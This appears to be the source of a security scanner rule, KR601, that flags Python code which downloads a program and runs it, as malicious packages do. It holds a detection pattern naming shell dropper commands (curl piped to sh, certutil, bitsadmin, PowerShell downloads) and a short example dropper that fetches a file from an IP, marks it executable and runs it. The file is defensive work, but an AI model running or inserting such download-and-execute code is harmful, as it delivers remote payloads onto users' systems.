/**
 * KR601 download-and-execute: code that fetches a program or script from the network and
 * runs it — the classic dropper of malicious packages (a `setup.py` that downloads a
 * binary, marks it executable and starts it; `exec(urlopen(url).read())`).
 */
import { defineRule } from '../../core/rule.js';
import type * as A from '../../python/ast.js';
import { walk } from '../../python/visit.js';
import { PROCESS_CALL, byPhase, constantText, factsFor, isFetchCall, phaseWord, scopeNode, type ModuleFacts } from './facts.js';
import type { SemanticModel } from '../../python/semantic.js';

const EXEC_BUILTINS = new Set(['exec', 'eval', 'compile', 'builtins.exec', 'builtins.eval', 'builtins.compile', 'execfile', 'runpy.run_path']);
/** Shell one-liners that download and run in one go. */
const SHELL_DROPPER = /\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:curl|wget)\b[^;&|]*(?:&&|;)\s*(?:chmod\s+\+?[0-7]*x|\.\/|sh\s|bash\s)|\b(?:iwr|Invoke-WebRequest|DownloadString|DownloadFile|Net\.WebClient)\b|\bcertutil\b[^\n]*-urlcache|\bbitsadmin\b[^\n]*\/transfer|\bmshta\s+https?:/i;
/** Archive and build tools: running them after a download is how honest builds fetch sources. */
const BUILD_TOOLS = /^(?:tar|unzip|gzip|gunzip|xz|7z|cmake|make|ninja|pkg-config|git)$/;

function isExecBuiltin(call: A.Call, semantic: SemanticModel): boolean {
  const q = semantic.qualifiedName(call.func) ?? '';
  return EXEC_BUILTINS.has(q) || /(?:^|\.)__builtins__\.(?:exec|eval)$/.test(q);
}

/** Does `scope` write fetched bytes to disk (urlretrieve, wget.download, `f.write(resp.content)`, copyfileobj)? */
function downloadsToDisk(scope: A.AnyNode, semantic: SemanticModel, facts: ModuleFacts): A.Call | undefined {
  let found: A.Call | undefined;
  walk(scope, (n) => {
    if (found) return false;
    if (n !== scope && (n.type === 'FunctionDef' || n.type === 'AsyncFunctionDef') && scope.type !== 'Module') return false;
    if (n.type !== 'Call') return true;
    const q = semantic.qualifiedName(n.func) ?? '';
    if (/(?:^|\.)urlretrieve$|^wget\.download$/.test(q)) found = n;
    else if (n.func.type === 'Attribute' && (n.func.attr === 'write' || n.func.attr === 'write_bytes' || n.func.attr === 'writelines') && n.args.some((a) => mentionsFetched(a, semantic, facts))) found = n;
    else if (q === 'shutil.copyfileobj' && n.args[0] && mentionsFetched(n.args[0], semantic, facts)) found = n;
    return true;
  });
  return found;
}

function mentionsFetched(e: A.Expr, semantic: SemanticModel, facts: ModuleFacts): boolean {
  let hit = false;
  walk(e, (n) => {
    if ((n.type === 'Name' && facts.fetched.has(n.id)) || (n.type === 'Call' && n.func.type === 'Name' && facts.fetched.has(`()${n.func.id}`)) || (n.type === 'Call' && isFetchCall(n, semantic))) hit = true;
    return !hit;
  });
  return hit;
}

function makesExecutable(call: A.Call, semantic: SemanticModel): boolean {
  const q = semantic.qualifiedName(call.func) ?? '';
  if (q !== 'os.chmod' && !(call.func.type === 'Attribute' && call.func.attr === 'chmod')) return false;
  const mode = call.args[1] ?? call.args[0];
  if (!mode) return false;
  const v = semantic.constValue(mode);
  if (typeof v === 'number') return (v & 0o111) !== 0;
  return /S_IX(?:USR|GRP|OTH)|S_IRWX/.test(constantOrNames(mode));
}

function constantOrNames(e: A.Expr): string {
  const parts: string[] = [];
  walk(e, (n) => {
    if (n.type === 'Attribute') parts.push(n.attr);
    else if (n.type === 'Name') parts.push(n.id);
    return true;
  });
  return parts.join(' ');
}

const reported = new WeakSet<A.AnyNode>();

export const downloadAndExecute = defineRule({
  id: 'KR601',
  name: 'download-and-execute',
  category: 'code',
  severity: 'critical',
  confidence: 'high',
  cwe: [494],
  docs: {
    what:
      'Flags code that runs something it fetched from the network: `exec`/`eval`/`compile` of a response body; a download written to disk followed, in the same function, by `chmod +x` or a process start; shell one-liners such as `curl … | sh`, `wget … && chmod +x`, PowerShell `iwr … | iex`, `certutil -urlcache`. Critical when it runs at install time (setup.py, build hooks) or import time, high otherwise.',
    why:
      'Downloading and running code without checking it (CWE-494) is how most malicious packages deliver their payload: the package itself looks small and harmless, and the second stage — a stealer, a miner, a backdoor — comes from a server the attacker controls and can change at any time. Honest packages ship their code in the archive, or fetch data (not programs), or pin a hash.',
    example:
      'import os, urllib.request\nurllib.request.urlretrieve("http://203.0.113.7/x", "/tmp/.x")\nos.chmod("/tmp/.x", 0o755)\nos.system("/tmp/.x &")',
    instead:
      'Ship the code in the package, declare real dependencies, and when a build must fetch something, pin its sha256 and never run it at install time:\nexpected = "9f86d0…"\nif hashlib.sha256(data).hexdigest() != expected: raise SystemExit("checksum mismatch")',
    references: [
      'https://cwe.mitre.org/data/definitions/494.html',
      'https://github.com/DataDog/guarddog#heuristics',
      'https://blog.phylum.io/tag/malware/',
    ],
  },
  visit: {
    Call(node, ctx) {
      const q = ctx.callName(node) ?? '';
      const isProcess = PROCESS_CALL.test(q);
      const exec = isExecBuiltin(node, ctx.semantic) && !!node.args[0];
      // Only a call that executes code, runs a process or makes a file executable needs the module's facts.
      if (!exec && !isProcess && !makesExecutable(node, ctx.semantic)) return;
      const facts = factsFor(node, ctx.semantic, ctx.path);
      const phase = facts.phaseOf(node);
      const severity = byPhase(phase, 'critical' as const, 'high' as const);
      if (exec && mentionsFetched(node.args[0], ctx.semantic, facts)) {
        ctx.report(node, {
          severity,
          message: `Code fetched from the network is executed ${phaseWord(phase)}.`,
          fix: 'Never execute downloaded code; ship it in the package.',
          properties: { indicator: 'download-execute', phase },
        });
        return;
      }
      if (isProcess && SHELL_DROPPER.test(constantText(node))) {
        ctx.report(node, {
          severity,
          message: `A shell command downloads and runs a program ${phaseWord(phase)}.`,
          fix: 'Remove the download-and-run command; ship what is needed in the package.',
          properties: { indicator: 'download-execute', phase },
        });
        return;
      }
      if (!isProcess && !makesExecutable(node, ctx.semantic)) return;
      if (isProcess) {
        const argv0 = firstWord(node, ctx.semantic);
        if (argv0 && BUILD_TOOLS.test(argv0)) return;
      }
      const scope = scopeNode(node);
      if (reported.has(scope)) return;
      const dl = downloadsToDisk(scope, ctx.semantic, facts);
      if (!dl) return;
      reported.add(scope);
      ctx.report(node, {
        severity,
        message: `A file downloaded at line ${dl.lineno} is ${isProcess ? 'run' : 'made executable'} ${phaseWord(phase)}.`,
        fix: 'Do not download and run programs; ship them in the package or pin and verify a hash.',
        properties: { indicator: 'download-execute', phase },
      });
    },
  },
});

function firstWord(call: A.Call, semantic: SemanticModel): string | undefined {
  const a = call.args[0];
  if (!a) return undefined;
  if (a.type === 'List' || a.type === 'Tuple') {
    const v = a.elts[0] ? semantic.constValue(a.elts[0]) : undefined;
    return typeof v === 'string' ? v.split('/').pop() : undefined;
  }
  const v = semantic.constValue(a);
  return typeof v === 'string' ? v.trim().split(/\s+/)[0]?.split('/').pop() : undefined;
}
